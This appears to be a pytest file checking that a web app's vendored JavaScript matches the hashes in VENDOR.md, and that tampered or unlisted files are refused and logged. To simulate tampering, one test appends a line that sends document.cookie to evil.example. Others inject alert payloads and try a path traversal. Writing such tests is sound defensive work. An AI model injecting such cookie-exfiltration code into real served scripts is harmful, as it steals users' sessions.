"""Vendored browser code (web/static/vendor/) is covered by the integrity manifest like the
top-level assets: a changed or added file in that subfolder is refused, never served. And
the committed files are the ones VENDOR.md lists, byte for byte."""

from __future__ import annotations

import hashlib
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.security.test_headers_csrf import platform_settings, running_app
from yugong.security.integrity import WEB_ASSETS, Integrity, package_root, scan
from yugong.security.models import SecurityEvent

VENDOR = f"{WEB_ASSETS}/vendor"
# | package | version | source file | vendored as | sha256 | licence |
ROW = re.compile(
    r"^\|\s*(?P<pkg>[^|\s]+)\s*\|\s*(?P<version>\d+\.\d+\.\d+)\s*\|\s*`(?P<source>[^`]+)`\s*\|"
    r"\s*`(?P<file>[^`]+)`\s*\|\s*`(?P<sha256>[0-9a-f]{64})`\s*\|",
    re.M,
)


def listed() -> dict[str, str]:
    """vendored file name -> sha256, from VENDOR.md."""
    text = (package_root() / VENDOR / "VENDOR.md").read_text(encoding="utf-8")
    return {m["file"]: m["sha256"] for m in ROW.finditer(text)}


def script(prefix: str) -> str:
    (name,) = [n for n in listed() if n.startswith(prefix + "-") and n.endswith(".min.js")]
    return name


@pytest.fixture
def pkg(tmp_path: Path) -> Path:
    """A copy of the installed package to tamper with."""
    root = tmp_path / "pkg"
    shutil.copytree(package_root(), root, ignore=shutil.ignore_patterns("__pycache__"))
    return root


def test_committed_vendor_files_match_vendor_md() -> None:
    files = listed()
    assert {script("htmx"), script("echarts")} <= set(files)
    folder = package_root() / VENDOR
    present = {p.name for p in folder.iterdir() if p.is_file()}
    assert present == {*files, "VENDOR.md"}, "every vendored file is listed, and only those"
    for name, sha256 in files.items():
        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == sha256, name


def test_manifest_covers_vendor_files_and_detects_a_change(tmp_path: Path, pkg: Path) -> None:
    integrity = Integrity(platform_settings(tmp_path / "data"), root=pkg)
    integrity.build()
    files = integrity.load()
    for name in (*listed(), "VENDOR.md"):  # licence texts and the list too, whatever suffix
        assert f"{VENDOR}/{name}" in files, name
    assert files == scan(pkg)

    js = pkg / VENDOR / script("echarts")
    js.write_bytes(js.read_bytes() + b"\nfetch('https://evil.example/'+document.cookie);")
    report = integrity.check()
    assert report.changed == [f"{VENDOR}/{js.name}"]


def test_tampered_vendor_script_is_not_served(tmp_path: Path, pkg: Path) -> None:
    settings = platform_settings(tmp_path / "data")
    with running_app(settings) as c:
        app: Any = c.app
        sec = app.state.security
        integrity = Integrity(settings, sec.events, root=pkg)
        integrity.build()
        app.state.integrity = integrity

        name = script("htmx")
        ok = c.get(f"/static/vendor/{name}")
        assert ok.status_code == 200
        assert "javascript" in ok.headers["content-type"]
        assert ok.content == (pkg / VENDOR / name).read_bytes()

        js = pkg / VENDOR / name
        js.write_bytes(js.read_bytes().replace(b'"use strict"', b'"use strict";alert(1)', 1))
        r = c.get(f"/static/vendor/{name}")
        assert r.status_code == 503
        assert b"alert(1)" not in r.content
        (pkg / VENDOR / "extra.min.js").write_text("alert(2)")
        assert c.get("/static/vendor/extra.min.js").status_code == 503  # not in the manifest
        assert c.get("/static/vendor/../../server.py").status_code == 404
        assert c.get(f"/static/vendor/{script('echarts')}").status_code == 200  # untouched

        with sec.db.session() as s:
            subjects = {
                e.subject for e in s.query(SecurityEvent).filter_by(kind="tampered_file").all()
            }
        assert {f"{VENDOR}/{name}", f"{VENDOR}/extra.min.js"} <= subjects
